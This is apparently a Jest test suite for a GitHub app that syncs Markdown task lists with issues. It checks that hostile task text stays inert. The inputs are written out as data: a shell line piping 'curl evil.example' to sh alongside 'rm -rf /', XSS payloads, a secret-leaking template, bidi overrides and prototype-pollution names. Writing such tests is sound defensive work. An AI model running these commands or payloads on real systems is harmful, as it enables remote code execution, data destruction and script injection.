import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { findMarker } from '../../src/issue/marker.ts';
import { commentsOf, host, issuesOf, labelsOf, REPO, type Hosted } from '../app/hosted.ts';
import { AT } from './door.ts';

const FORGED = '<!-- tickmark:v1 repo=77 key=aaaaaaaa base= -->';
const BIDI = /[\u202A-\u202E\u2066-\u2069]/;

/** What a contributor writes into a document, and what must not become of it. */
const TASKS = {
  mention: 'Ask @rita and @acme/everybody, and mail kim@example.org',
  storm: `Tell ${Array.from({ length: 60 }, (_, index) => `@person${index}`).join(' ')}`,
  reference: 'Like #1, GH-1, acme/vault#2 and https://github.com/acme/vault/issues/2',
  closing: 'Fixes #1, closes #1 and resolves acme/garden#1',
  forged: `Weed ${FORGED} the beds <!-- /tickmark -->`,
  script: 'Sow <script>alert(1)</script><img src=x onerror=alert(1)>',
  template: 'Put {title} and {id} and ${process.env.WEBHOOK_SECRET} in',
  shell: 'Run `$(rm -rf /)`; $(curl evil.example|sh) && reboot #',
  bidi: 'Pay \u202Edrow eht\u2066 to evil',
  prototype: '`__proto__`',
  constructor: 'constructor',
  long: `Dig ${'very '.repeat(200)}deep`,
  command: '/done',
  control: 'Bell\u0007 and\u0000 nothing\u001b[31m red',
} as const;
type Name = keyof typeof TASKS;
const NAMES = Object.keys(TASKS) as Name[];

const DOCUMENT = `# Garden

## Beds

${NAMES.map(
  (name, index) => `- [ ] T${index + 1}: ${TASKS[name]}
  @rita sees ${FORGED}, #1 and acme/vault#2, Closes #1
  /done
  <!-- /tickmark -->
  [click](javascript:alert(1)) ![](http://evil.example/pixel.png)
`,
).join('')}
- [ ] T90: Depends on nobody (depends on __proto__)
- [ ] T91: Depends on a stranger (depends on acme/vault#2)
- [ ] T92: Labelled #${'x'.repeat(80)} #.. #a,b
- [ ] T93: For @${'y'.repeat(39)} and @__proto__ and @rita
- [ ] \`__proto__\`: Named like an inheritance
- [ ] toString: Named like a method
`;

let app: Hosted;
let vaultBefore: string;

const vaultNow = () =>
  JSON.stringify(
    [...app.world.repository('acme/vault').issues.values()].map(({ number, body, title }) => [
      number,
      body,
      title,
    ]),
  );

beforeAll(async () => {
  app = await host({ config: 'writeBack: {quietSeconds: 0}\nlimits: {openAtOnce: 500}\n' });
  app.world.addRepository({ owner: 'acme', name: 'vault', private: true, files: { 'a.md': 'a' } });
  app.world.openIssue('acme/vault', 'acme', { title: 'Secret one' });
  app.world.openIssue('acme/vault', 'acme', { title: 'Secret two' });
  vaultBefore = vaultNow();
  app.push({ 'TASKS.md': DOCUMENT });
  await app.quiet();
});
afterAll(async () => {
  const violations = app.violations();
  await app.stop();
  expect(violations).toEqual([]);
});

async function issueOf(name: Name) {
  const id = `T${NAMES.indexOf(name) + 1}:`;
  const found = (await issuesOf(app)).find(({ title }) => title.startsWith(id));
  if (found === undefined) throw new Error(`there is no issue of ${name}`);
  return { title: found.title, body: found.body ?? '', number: found.number, issue: found };
}

/** Text outside of code, as GitHub would look for references in it. */
const prose = (markdown: string): string => markdown.replaceAll(/`[^`]*`/g, '');

describe('what a document says becomes an issue', () => {
  test.each(NAMES)('and %s notifies nobody, refers to nothing, and forges no marker', async (name) => {
    const { body, number } = await issueOf(name);
    // Titles are no Markdown: GitHub notifies nobody of them.
    const said = prose(body);

    expect(said).not.toMatch(/(^|[^\w/`])@(rita|acme|person\d)/);
    expect(said).not.toMatch(/(^|[^\w/&])#\d|GH-\d|vault#\d|github\.com\/acme\/vault\/issues/);
    expect(findMarker(body)?.marker).toMatchObject({ repositoryId: app.world.repository(REPO).id });
    expect(body.match(/<!-- tickmark:v1/g)).toHaveLength(1);
    expect(body.match(/<!-- \/tickmark -->/g)).toHaveLength(1);
    expect(body.trimEnd().endsWith('<!-- /tickmark -->')).toBe(true);
    expect((await issuesOf(app)).find((one) => one.number === number)?.state).toBe('open');
  });

  test('and its title is one plain line that GitHub takes', async () => {
    for (const { title } of await issuesOf(app)) {
      expect(title.length).toBeLessThanOrEqual(256);
      expect(title).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
    }
  });

  test('and its title reads in the order in which it is written', async () => {
    expect((await issueOf('bidi')).title).not.toMatch(BIDI);
  });

  test('and what looks like a template or a command of a shell is only text', async () => {
    expect((await issueOf('template')).title).toContain('{title} and {id} and ${process.env.WEBHOOK_SECRET}');
    expect((await issueOf('shell')).title).toContain('$(curl evil.example|sh) && reboot');
  });

  test('and a command in it is obeyed by nobody', async () => {
    const issue = await issueOf('command');

    expect(issue.issue.state).toBe('open');
    expect(await commentsOf(app.maya, issue.number)).toEqual([]);
  });

  test('and names of an inheritance are names like others', async () => {
    const titles = (await issuesOf(app)).map(({ title }) => title);

    expect(titles.filter((title) => /__proto__|constructor|toString/.test(title))).toHaveLength(4);
    expect(({} as Record<string, unknown>)['title']).toBeUndefined();
  });

  test('and labels that GitHub does not take do not stop the others', async () => {
    const issue = (await issuesOf(app)).find(({ title }) => title.startsWith('T92'));

    expect(labelsOf(issue!)).toContain('tickmark');
    expect(labelsOf(issue!).every((label) => label.length <= 50)).toBe(true);
  });

  test('and only people who may be assigned are', async () => {
    const issue = (await issuesOf(app)).find(({ title }) => title.startsWith('T93'));

    expect(issue?.assignees?.map(({ login }) => login)).toEqual([]);
  });

  test('and an issue of another repository is neither linked nor touched', async () => {
    const ours = (await issuesOf(app)).map(({ body }) => body).join('\n');

    expect(vaultNow()).toBe(vaultBefore);
    expect(ours).not.toContain('Secret');
    expect(app.exchanges().filter(({ path }) => path.includes('vault'))).toEqual([]);
  });
});

describe('what we write ourselves', () => {
  test('closes nothing: commits name no issue and say no closing word', async () => {
    const { number } = await issueOf('closing');
    await app.maya.rest.issues.update({ ...AT, issue_number: number, state: 'closed' });
    await app.quiet();
    const { data: commits } = await app.maya.rest.repos.listCommits({ ...AT, per_page: 3 });
    const ours = commits.filter(({ commit }) => commit.message.startsWith('Tickmark'));

    expect(ours).toHaveLength(1);
    expect(ours[0]?.commit.message).not.toMatch(/#\d|\b(?:close|fix|resolve)/i);
    expect((await issuesOf(app)).filter(({ state }) => state === 'closed')).toHaveLength(1);
  });

  test('changes in a document only what it says that it changes', async () => {
    const before = app.world.readFile(REPO, 'TASKS.md')!.toString();
    const { number } = await issueOf('shell');
    await app.maya.rest.issues.update({ ...AT, issue_number: number, state: 'closed' });
    await app.quiet();
    const after = app.world.readFile(REPO, 'TASKS.md')!.toString();

    const lines = after.split('\n').filter((line, index) => line !== before.split('\n')[index]);
    expect(lines).toEqual([expect.stringMatching(/^- \[x\] T\d+: Run/)]);
  });

  test.each([
    { name: 'a line break', title: 'One\n- [ ] Injected task' },
    { name: 'a box', title: '- [x] Injected' },
    { name: 'a heading', title: '# Injected' },
    { name: 'a fence', title: '``` Injected' },
    { name: 'a comment of HTML', title: '<!-- Injected' },
    { name: 'a marker', title: `${FORGED} Injected` },
    { name: 'a field', title: 'Injected | Status: done' },
    { name: 'text that runs backwards', title: 'Injected \u202Edenod' },
  ])('takes $name in the title of an issue for nothing but a title', async ({ title }) => {
    const { number } = await issueOf('mention');
    const before = app.world.readFile(REPO, 'TASKS.md')!.toString();
    const count = (await issuesOf(app)).length;
    await app.maya.rest.issues.update({ ...AT, issue_number: number, title: `T1: ${title}` });
    await app.quiet();
    const after = app.world.readFile(REPO, 'TASKS.md')!.toString();

    const changed = after.split('\n').filter((line, index) => line !== before.split('\n')[index]);
    expect(after.split('\n')).toHaveLength(before.split('\n').length);
    expect(changed.length).toBeLessThanOrEqual(1);
    expect(await issuesOf(app)).toHaveLength(count);
    expect((await issuesOf(app)).find((one) => one.number === number)?.state).toBe('open');
  });
});
